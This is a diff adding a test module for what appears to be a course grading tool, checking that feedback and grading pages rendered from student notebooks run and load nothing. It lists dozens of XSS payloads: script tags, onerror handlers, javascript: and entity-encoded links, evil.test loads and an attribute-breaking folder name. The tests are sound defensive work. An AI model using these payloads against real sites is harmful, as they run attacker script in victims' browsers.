@@ -1,0 +1,258 @@
+"""The pages that a submission is read in: nothing of a student's runs there, and nothing is loaded.
+
+Every vector says its own name in what it would run or load, so that one page shows all of them.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import nbgrader
+import pytest
+from nbconvert.exporters import HTMLExporter
+from tiny import LESSON_ID, solved
+from traitlets.config import Config
+
+from course.grading.classroom import Classroom
+from course.grading.feedback import POLICY, FeedbackExporter, closed
+
+#: In prose. NAME becomes the vector's name; it must still stand somewhere on the page.
+PROSE = {
+    "script": "<script>alert('NAME')</script>",
+    "script_in_capitals": "<SCRIPT SRC='https://evil.test/NAME.js'></SCRIPT>",
+    "handler": "<img src=x onerror=\"alert('NAME')\">",
+    "handler_on_an_unclosed_tag": "<svg/onload=alert('NAME')//",
+    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>' title='NAME'></iframe>",
+    "style": "<style>@import 'https://evil.test/NAME.css';</style>",
+    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.test/NAME'>",
+    "base": "<base href='https://evil.test/NAME/'>",
+    "form": "<form action='https://evil.test/NAME'><button>Go</button></form>",
+    "stylesheet": "<link rel='stylesheet' href='https://evil.test/NAME.css'>",
+    "closing_tags": "</div></body><script>alert('NAME')</script>",
+    "comment": "<!--><script>alert('NAME')</script>-->",
+    "in_a_heading": "# <img src=x onerror=alert('NAME')>",
+    "in_a_table": "| a |\n| - |\n| <img src=x onerror=alert('NAME')> |",
+    "in_mermaid": "```mermaid\n<img src=x onerror=alert('NAME')>\n```",
+    "entities_in_mermaid": "```mermaid\n&lt;img src=x onerror=alert('NAME')&gt;\n```",
+    "in_a_language": "```\"><img/src=x/onerror=alert('NAME')>\nNAME\n```",
+    "in_a_formula": "$<img src=x onerror=alert('NAME')>$",
+    "formula_link": r"$\href{javascript:alert('NAME')}{x}$",
+    "link": "[click](javascript:alert('NAME'))",
+    "link_in_brackets": "[click](<javascript:alert('NAME')>)",
+    "link_by_entity": "[click](&#106;avascript:alert('NAME'))",
+    "link_by_reference": "[click][r1]\n\n[r1]: javascript:alert('NAME')",
+    "link_with_a_title": "[click](https://a.test '\" onmouseover=\"alert(&quot;NAME&quot;)')",
+    "link_to_data": "[click](data:text/html;base64,NAME)",
+    "autolink": "<javascript:alert('NAME')>",
+    "page_beside_it": "[click](NAME.html)",
+    "page_above_it": "[click](../NAME.png)",
+    "picture": "![x](https://evil.test/NAME.png)",
+    "picture_without_scheme": "![x](//evil.test/NAME.png)",
+    "picture_by_reference": "![x][r2]\n\n[r2]: https://evil.test/NAME.png",
+    "picture_by_its_name": "![r3]\n\n[r3]: https://evil.test/NAME.png",
+    "picture_in_a_link": "[![x](https://evil.test/NAME.png)](https://a.test)",
+    "picture_after_a_picture": "![a[b](attachment:there.png)](https://evil.test/NAME.png)",
+    "picture_behind_a_bracket": "![a\\](attachment:there.png)](https://evil.test/NAME.png)",
+    "picture_behind_code": "![a`](attachment:there.png)`](https://evil.test/NAME.png)",
+    "picture_behind_a_formula": "![a$](attachment:there.png)$](https://evil.test/NAME.png)",
+    "picture_over_a_line": "![x](\nhttps://evil.test/NAME.png)",
+    "escaped_twice": "\\![x](https://evil.test/NAME.png)",
+    "picture_of_a_page": "![x](/logout/NAME)",
+    "attachment_that_is_missing": "![NAME](attachment:nowhere.png)",
+    "attachment_that_is_empty": "![NAME](attachment:empty.png)",
+    "attachment_that_is_drawn": "![NAME](attachment:drawn.svg)",
+    "handler_in_a_picture": "![\" onerror=\"alert('NAME')](attachment:there.png)",
+}
+
+#: In what a cell of code shows.
+SHOWN = {
+    "html": "display(HTML(\"<script>alert('NAME')</script>\")); print('NAME')",
+    "javascript": "display(Javascript(\"alert('NAME')\"))",
+    "drawing": 'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="a(1)"/>\')) #NAME',
+    "markdown": "display(Markdown('![NAME](https://evil.test/NAME.png)'))",
+    "latex": r"display(Latex(r'$\href{javascript:alert(1)}{NAME}$<script>1</script>'))",
+    "printed": "print(\"<script>alert('NAME')</script>\")",
+    "coloured": "print('\\x1b[31m<img src=x onerror=alert(\"NAME\")>\\x1b[0m')",
+    "error": "raise ValueError(\"<img src=x onerror=alert('NAME')>\")",
+    "error_class": "raise type('<img/src=x/onerror=alert()>', (Exception,), {})('NAME')",
+    "picture_that_is_none": "display({'image/png': '\" onerror=\"alert(1)'}, raw=True) #NAME",
+    "source": "# <script>alert('NAME')</script></pre></div><img src=x onerror=alert('NAME')>",
+}
+VECTORS = {**PROSE, **SHOWN}
+PNG = "iVBORw0KGgoAAAANSUhEUg=="
+ATTACHED = {
+    "there.png": {"image/png": PNG},
+    "empty.png": {},
+    "drawn.svg": {"image/svg+xml": "PHN2Zz4="},
+}
+#: A folder's name, to break out of an attribute and out of text.
+EVIL_NAME = "\" onclick=alert('v_name_v') x=\"<img src=x onerror=alert('v_name_v')>"
+IMPORTS = "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
+#: What loads something, or opens it without being asked.
+LOADS = ("src", "srcset", "srcdoc", "poster", "data", "background", "action", "formaction", "style")
+NEVER = {"iframe", "object", "embed", "form", "base", "link", "svg", "math", "frame", "template"}
+
+
+def own_cell(name: str, source: str) -> dict[str, Any]:
+    prose = name in PROSE
+    cell: dict[str, Any] = {"id": f"own_{name}", "metadata": {}}
+    if prose:
+        cell |= {"cell_type": "markdown", "attachments": ATTACHED}
+    else:
+        cell |= {"cell_type": "code", "outputs": [], "execution_count": None}
+    return cell | {"source": ("" if prose else IMPORTS) + source.replace("NAME", f"v_{name}_v")}
+
+
+class Elements(HTMLParser):
+    """Collects elements with their attributes, and what stands inside scripts and styles."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.seen: list[tuple[str, dict[str, str]]] = []
+        self.inside: list[tuple[str, str]] = []
+        self.text = ""
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.seen.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_data(self, data: str) -> None:
+        if self.cdata_elem:
+            self.inside.append((self.cdata_elem, data))
+        self.text += data
+
+    def attributes(self) -> Iterator[tuple[str, str, str]]:
+        for tag, attributes in self.seen:
+            for name, value in attributes.items():
+                yield tag, name, value
+
+
+@pytest.fixture(scope="module")
+def room(tiny_course: Path, released: Path, tmp_path_factory: pytest.TempPathFactory) -> Classroom:
+    """One submission with every vector, graded and with its feedback."""
+    room = Classroom(tiny_course, LESSON_ID, tmp_path_factory.mktemp("pages") / "class")
+    shutil.copytree(released, room.folder, dirs_exist_ok=True)
+    notebook = solved(room)
+    notebook["cells"] += [own_cell(name, source) for name, source in VECTORS.items()]
+    beside = own_cell("picture", "![mine](mine.png) ![kept](attachment:there.png) [t](notes.txt)")
+    notebook["cells"].append({**beside, "id": "harmless"})
+    path = room.hand_in("ann", json.dumps(notebook))
+    path.with_name("mine.png").write_bytes(b"picture")
+    assert room.autograde() == []
+    room.generate_feedback()
+    return room
+
+
+@pytest.fixture(scope="module")
+def feedback(room: Classroom) -> Elements:
+    return Elements(room.feedback_page("ann").read_text(encoding="utf-8"))
+
+
+@pytest.fixture(scope="module")
+def formgrader(room: Classroom) -> Elements:
+    """The page that an instructor grades on, made as formgrader makes it."""
+    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
+    config = Config(room.config)
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [str(templates)]
+    about = {"index": 0, "total": 1, "base_url": "", "student": EVIL_NAME}
+    about |= {"last_name": None, "first_name": None, "submission_id": "1"}
+    about |= {"notebook_path": f"autograded/{EVIL_NAME}"}
+    about |= {"assignment_id": LESSON_ID, "notebook_id": "decoder_cells"}
+    exporter = HTMLExporter(config=config)
+    page, _ = exporter.from_filename(str(room.graded_notebook("ann")), resources=about)
+    return Elements(page)
+
+
+def dangers(page: Elements, mark: str) -> list[tuple[str, str, str]]:
+    """List what would run, load or open something where it says a vector's name."""
+    found = [(tag, name, value) for tag, name, value in page.attributes() if mark in value]
+    bad = [(tag, name, value) for tag, name, value in found if name in LOADS or name[:2] == "on"]
+    for tag, name, value in found:
+        odd = not re.match(r"https?://|#|attachment:", value)
+        if name in ("href", "xlink:href") and (tag != "a" or odd):
+            bad.append((tag, name, value))
+        if tag == "meta":
+            bad.append((tag, name, value))
+    return bad + [(tag, "", text) for tag, text in page.inside if mark in text]
+
+
+@pytest.mark.parametrize("name", VECTORS)
+def test_it_does_nothing_in_the_feedback_page(feedback: Elements, name: str) -> None:
+    assert dangers(feedback, f"v_{name}_v") == []
+
+
+@pytest.mark.parametrize("name", VECTORS)
+def test_it_does_nothing_on_the_page_that_formgrader_shows(formgrader: Elements, name: str) -> None:
+    assert dangers(formgrader, f"v_{name}_v") == []
+
+
+def test_a_name_does_nothing_on_the_page_that_formgrader_shows(formgrader: Elements) -> None:
+    assert dangers(formgrader, "v_name_v") == []
+    assert EVIL_NAME in formgrader.text
+
+
+@pytest.mark.parametrize("name", VECTORS)
+def test_it_is_still_there_to_be_read(feedback: Elements, name: str) -> None:
+    values = " ".join(value for _, _, value in feedback.attributes())
+    assert f"v_{name}_v" in feedback.text + values
+
+
+def test_no_element_that_a_page_of_text_and_pictures_does_not_need(feedback: Elements) -> None:
+    assert {tag for tag, _ in feedback.seen} & (NEVER | {"script"}) == set()
+    assert [found for found in feedback.attributes() if found[1].startswith("on")] == []
+
+
+def test_the_page_itself_loads_nothing(feedback: Elements) -> None:
+    loaded = [value for _, name, value in feedback.attributes() if name in LOADS]
+    assert [value[:40] for value in loaded if "//" in value[:20]] == []
+    styles = " ".join(text for tag, text in feedback.inside if tag == "style")
+    assert styles
+    assert re.findall(r"@import|url\(\s*['\"]?(?!data:)[^)]*", styles) == []
+
+
+def test_the_policy_stands_before_all_else_in_the_head(feedback: Elements) -> None:
+    assert [tag for tag, _ in feedback.seen[:2]] == ["html", "head"]
+    assert feedback.seen[2] == (
+        "meta",
+        {"http-equiv": "Content-Security-Policy", "content": POLICY},
+    )
+    assert "script" not in POLICY
+    assert "http" not in POLICY
+
+
+@pytest.mark.parametrize("alt", ["mine", "kept"])
+def test_a_students_own_pictures_are_in_the_page(feedback: Elements, alt: str) -> None:
+    [source] = [one["src"] for tag, one in feedback.seen if tag == "img" and one["alt"] == alt]
+    assert source.startswith("data:image/png;base64,")
+
+
+def test_what_was_handed_in_is_left_as_it_was(room: Classroom) -> None:
+    handed_in = room.folder / "submitted" / "ann" / LESSON_ID / "decoder_cells.ipynb"
+    cells = {cell["id"]: cell for cell in json.loads(handed_in.read_text("utf-8"))["cells"]}
+    assert cells["own_script"] == own_cell("script", PROSE["script"])
+
+
+def test_prose_that_cannot_be_rendered_is_shown_as_text() -> None:
+    cell = {"cell_type": "markdown", "id": "a", "metadata": {}, "source": "![b&](attachment:c)"}
+    page, _ = FeedbackExporter(template_name="classic").from_notebook_node(
+        nbformat_of(cell | {"attachments": {}})
+    )
+    assert "<pre>![b&amp;](attachment:c)</pre>" in page
+
+
+def nbformat_of(cell: dict[str, Any]) -> Any:
+    return nbformat.from_dict({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+def test_a_template_without_a_head_is_refused() -> None:
+    with pytest.raises(ValueError, match="no <head>"):
+        closed("<html><body></body></html>")
